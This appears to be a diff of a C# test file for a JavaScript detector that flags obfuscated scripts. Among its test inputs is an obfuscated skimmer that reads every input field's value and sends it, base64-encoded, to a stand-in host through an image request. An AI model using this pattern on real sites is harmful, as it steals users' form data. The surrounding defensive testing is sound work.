@@ -27,7 +27,7 @@ public sealed class OpenQuestionTests
     [Theory]
     [InlineData("function T(s) { return ['querySelectorAll', 'input', 'forEach', 'value', 'src', 'https://tally.example/px.gif?d='][s[0]] } document[T`0`](T`1`)[T`2`](function (f) { new Image()[T`4`] = T`5` + btoa(f[T`3`]) });")]
     [InlineData("var m = new Map([[0, 'querySelectorAll'], [1, 'input']]); document[m.get(0)](m.get(1)).length;")]
-    [InlineData("var w = ['document', 'querySelectorAll'].reverse().map(function (x) { return x }); window[w.pop()][w.pop()]('input');")]
+    [InlineData("var w = ['document', 'querySelectorAll', 'forEach', 'value', 'src'].reverse().map(function (x) { return x }); window[w.pop()][w.pop()]('input');")]
     public void Words_out_of_tables_are_not_clean_either(string source) => Assert.NotEqual(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
 
     [Theory]
@@ -56,6 +56,11 @@ public sealed class OpenQuestionTests
     [InlineData("var secure = location.protocol === 'https:' ? 'secure' : '';")]
     public void A_small_part_under_a_condition_leaves_the_rest_clean(string condition) =>
         Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = $"(function () {{ {Filler} {condition} {Filler.Replace("total", "sum", StringComparison.Ordinal)} }})();" }).Verdict);
+
+    [Theory]
+    [InlineData("function trigger(node, type) { node.normal = 1; if (node[type]) { document[type](); } } window.trigger = trigger;")]
+    [InlineData("var names = { exit: document.webkitExitFullscreen ? 'webkitExitFullscreen' : 'exitFullscreen' }; function leave() { document[names.exit](); } window.leave = leave;")]
+    public void What_libraries_call_by_an_events_name_leaves_them_clean(string source) => Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
 
     [Fact]
     public void What_can_be_read_is_judged_by_what_it_says_under_any_condition() => Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge
